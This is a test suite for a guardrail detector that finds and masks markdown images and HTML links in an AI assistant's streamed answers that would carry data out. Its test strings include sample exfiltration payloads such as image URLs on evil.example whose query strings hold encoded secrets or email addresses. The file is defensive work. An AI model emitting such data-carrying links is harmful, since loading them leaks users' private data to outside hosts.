"""Images and links that carry data out: found, and never let out on a stream before they are judged."""

import re
import timeit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guardrails.detector import Match
from guardrails.engine import PolicyEngine
from guardrails.injection.links import RULES, TYPE, LinkDetector
from guardrails.interface import Segment
from guardrails.matching.gate import open_gate
from guardrails.policy import Policy, Rule
from guardrails.scanner import Scanner
from tests.support.seam import check_locality, check_stability, found

DETECTOR = LinkDetector()
GATE = open_gate(DETECTOR.expressions)
DATA = "c2VjcmV0" * 4
CARRYING = f"![x](https://evil.example/p.png?d={DATA})"
PIECES = st.sampled_from(
    ["![", "[", "]", "(", ")", "](", "]:", " ", "\n", "!", "\\", "<", "<img src=", "<a href='", "</a", "<a ",
     "<b>", "</", "z" * 199, "src", '="', ">", "a",
     "http", "s://", "//e.x/?q=", "https://evil.example/p?d=" + DATA, DATA, "é", "\ud800", "x" * 290, "y" * 1990,
     CARRYING]
)  # fmt: skip
TEXTS = st.lists(PIECES, max_size=14).map("".join)
TAGS = st.lists(
    st.sampled_from(
        [
            "<a ",
            "<a",
            "</a>",
            "</a",
            "<",
            ">",
            "href=//e.x/?d=" + DATA,
            'href="//e.x/p"',
            "<b>",
            '"',
            " ",
            "z" * 199,
            "x" * 99,
        ]
    ),
    max_size=12,
).map("".join)


def find(text: str, trusted: tuple[str, ...] = ()) -> list[Match]:
    return found(LinkDetector(trusted=trusted), GATE, text)


@pytest.mark.parametrize(
    ("answer", "rule", "score"),
    [
        ("![a](https://e.example/p.png?q=the+secret+is+blue)", "leak.image", 0.9),
        ("![a](<https://e.example/p.png?q=the+secret+is+blue>)", "leak.image", 0.9),
        ("![a](//e.example/p.png?q=the+secret+is+blue)", "leak.image", 0.9),
        (r"![a \] b](https://e.example/p.png?q=the+secret+is+blue)", "leak.image", 0.9),
        ('<img width=1 src="https://e.example/p?d=' + "QUJD" * 8 + '">', "leak.image", 0.9),
        ("<IMG\nSRC = https://e.example/p?d=" + "QUJD" * 8 + ">", "leak.image", 0.9),
        ("![a](https://e.example/" + "x1" * 30 + "/p.png)", "leak.image", 0.9),
        ("![chart](https://e.example/chart.png)", "leak.image", 0.3),
        ("[more](https://e.example/?u=anna%40firm.example)", "leak.link", 0.6),
        ("![a][1]\n\n[1]: https://e.example/?u=anna%40firm.example", "leak.link", 0.6),
        ('<a href="https://e.example/?u=first%20second">x</a>', "leak.link", 0.6),
    ],
)
def test_addresses_that_carry_data(answer: str, rule: str, score: float) -> None:
    [match] = find(f"Here you are: {answer}")
    assert (match.type, match.rule, match.score) == (TYPE, rule, score)
    assert rule in RULES


MASKED = "<DATA_EXFILTRATION>"


@pytest.mark.parametrize(
    ("answer", "masked"),
    [
        (f'a <img src="https://e.example/p?d={DATA}"> b', f"a {MASKED} b"),
        (f"a <img src='https://e.example/p?d={DATA}' alt='x' /> b", f"a {MASKED} b"),
        (f"a <img src=https://e.example/p?d={DATA}> b", f"a {MASKED} b"),
        (f'a <a class="l" href="https://e.example/p?d={DATA}" rel=x>see <b>here</b></a> b', f"a {MASKED} b"),
        (f'<a href="https://e.example/p?d={DATA}">see</A > b', f"{MASKED} b"),
        (f'<a href="https://e.example/p?d={DATA}">{"x" * 300}</a>', MASKED),
        (f'<a href="https://e.example/p?d={DATA}">{"x" * 301}</a>', f"{MASKED}{'x' * 301}</a>"),
        (f'<a href="https://e.example/p?d={DATA}">see <a href="/">there</a>', f'{MASKED}see <a href="/">there</a>'),
        (f'<img src="https://e.example/p?d={DATA}" {"x" * 300}>', f'{MASKED}" {"x" * 300}>'),
        (f'<img src="https://e.example/p?d={DATA}" <b>', f'{MASKED}" <b>'),
        (f'<img src="https://e.example/p?d={DATA}', MASKED),
    ],
)
def test_what_is_masked_leaves_no_half_of_a_tag(answer: str, masked: str) -> None:
    """Nor half of a link: both end where they end. Streamed in any pieces the same."""
    policy = Policy("p", (Rule(id="r", detector="exfiltration", action="mask", mode="enforce"),))
    engine = PolicyEngine([policy], Scanner([DETECTOR], gate=open_gate), key=b"k")
    verdict = engine.inspect([Segment("t", "assistant", answer)], "response")
    assert [each.text for each in verdict.rewrites] == [masked]
    for size in (1, 7):
        stream = engine.stream()
        assert stream is not None
        out = [stream.feed("t", answer[at : at + size]) for at in range(0, len(answer), size)]
        assert "".join([*out, stream.flush("t")]) == masked


@pytest.mark.parametrize(
    "answer",
    ["[docs](https://docs.example/page?id=5)", "https://e.example/?q=plain", "![x](/local.png)", "a[0](b) // c"],
)
def test_other_addresses(answer: str) -> None:
    assert find(answer) == []


def test_trusted_hosts() -> None:
    answer = "![a](https://img.firm.example/p?q=one+two)"
    assert find(answer, ("firm.example",)) == []
    assert find(answer, ("irm.example",))
    assert find("![a](https://firm.example@evil.example/p?q=one+two)", ("firm.example",))


@given(TEXTS | TAGS, st.data())
def test_a_stream_may_count_on_what_is_settled(text: str, data: st.DataObject) -> None:
    """`guardrails/detector.py`, *Stability*: the matches that start before `settled(text)` are as they will be."""
    check_stability(DETECTOR, GATE, text, data.draw(st.integers(0, len(text))))


@given(TEXTS | TAGS)
def test_a_match_depends_on_its_reach_alone(text: str) -> None:
    """`guardrails/detector.py`, *Locality*."""
    check_locality(DETECTOR, GATE, text, margin=1)


@pytest.mark.parametrize("action", ["block", "mask"])
@pytest.mark.parametrize("size", [1, 3, 7, 1000])
def test_no_address_leaves_before_it_is_judged(action: str, size: int) -> None:
    """Whoever shows an answer loads its images as they come: what is shown of one is already out."""
    rule = Rule(id="r", detector="exfiltration", action=action, mode="enforce")  # pyright: ignore
    engine = PolicyEngine([Policy("p", (rule,))], Scanner([DETECTOR], gate=open_gate), key=b"k" * 32)
    said = f"Here it is: {CARRYING} and that was all."
    stream = engine.stream("chat")
    assert stream is not None
    out = "".join(stream.feed("c", said[at : at + size]) for at in range(0, len(said), size)) + stream.flush("c")
    assert "evil" not in out
    if action == "mask":
        assert out == f"Here it is: <{TYPE}> and that was all."
        (whole,) = engine.inspect([Segment("c", "assistant", said)], "response", "chat").rewrites
        assert whole.text == out
    else:
        assert (out, stream.blocked) == ("Here it is: ", True)


BLANKS, LABEL = r"[ \t\r\n]{0,4}", r"(?:[^\[\]\n\\]|\\[^\n]){0,300}+"
BEGUN = re.compile(r"!?\[|<|!\Z")
MAY_GO_ON = re.compile(
    rf"!|!?\[{LABEL}(?:\\|\](?:[(:]{BLANKS}<?(?:h(?:t(?:t(?:p(?:s?(?::/?)?)?)?)?)?|/|(?:https?:)?//[^\s)<>]{{0,2000}}+>?)?)?)?"
    r"|<(?:im?|(?:img|a)(?:\b[^>]{0,2427}+)?)?",
    re.IGNORECASE,
)
LABELLED = re.compile(
    rf"<a\b(?>[^>]{{0,200}}?\bhref{BLANKS}={BLANKS}[\"']?(?:https?:)?//[^\s\"'<>]{{1,2000}}+)[\"']?[^<>]{{0,200}}+>"
    rf"(?:[^<]|<(?!/?a\b)){{0,300}}+(?:<(?:/?(?:a{BLANKS})?)?)?",
    re.IGNORECASE,
)
"""A link whose tag is over, and its label not."""
SYNTAX = st.lists(
    st.sampled_from(
        ["[", "!", "\\", "]", "(", ":", "//", "http:", "\n", " ", "<", ">", "img", "a", ")", "x" * 299, "\\]", "\\["]
    ),
    max_size=24,
).map("".join)


@given(TEXTS | SYNTAX | TAGS)
def test_nothing_is_held_but_what_may_become_an_image_or_a_link(text: str) -> None:
    """Said once more, bracket by bracket: the first from which everything to the end may be the beginning of one."""
    starts = [begun.start() for begun in BEGUN.finditer(text, max(0, len(text) - DETECTOR.reach.length))]
    links = {match.start for match in find(text)}
    first = (at for at in starts if MAY_GO_ON.fullmatch(text, at) or (at in links and LABELLED.fullmatch(text, at)))
    assert DETECTOR.settled(text) == next(first, len(text))


@pytest.mark.parametrize(
    "bait",
    [
        "\\[",
        "\\[\\](",
        "\\[a",
        "[](//",
        "<img ",
        "[",
        "<",
        "[](   ",
        "\\[\\[[](// ",
        "<a ",
        "<a href=//e?d=" + DATA,
        "<a href=//e?d=" + DATA + ">",
        "<a <a href=//e?d=" + DATA + ">b",
    ],
)
def test_bait_costs_little(bait: str) -> None:
    """A piece of a stream is looked at in time linear in what is held: it took thirty times as long."""
    text = (bait * 2700)[:2700] + " x>"
    assert min(timeit.repeat(lambda: DETECTOR.settled(text), number=1, repeat=5)) < 0.005


@pytest.mark.parametrize(
    "address",
    ["https://e.example/?q=PSNBCDFGHJKLMNPQ", "https://e.example/psnbcdfghjklmnpq/x.png",
     "//psnbcdfghjklmnpq.e.example/a",
     "https://e.example/anna@firm.example/p.png", "https://e.example/i/anna%40firm.example.png"],
)  # fmt: skip
def test_a_pseudonym_is_data_wherever_it_stands(address: str) -> None:
    """It is restored behind this detector: what is loaded then has the value in its address."""
    [match] = find(f"![x]({address})")
    assert match.score == 0.9


@pytest.mark.parametrize("address", ["https://unpkg.example/react@18.2.0/umd/x.js", "https://m.example/@anna/p.png"])
def test_an_at_sign_alone_is_no_address(address: str) -> None:
    [match] = find(f"![x]({address})")
    assert match.score == 0.3


def test_prose_is_not_held_back() -> None:
    for text in ("It costs [about] 5!? (See a[0] and x < y.) ", "Well, that is all there is to say. "):
        assert DETECTOR.settled(text) == len(text)
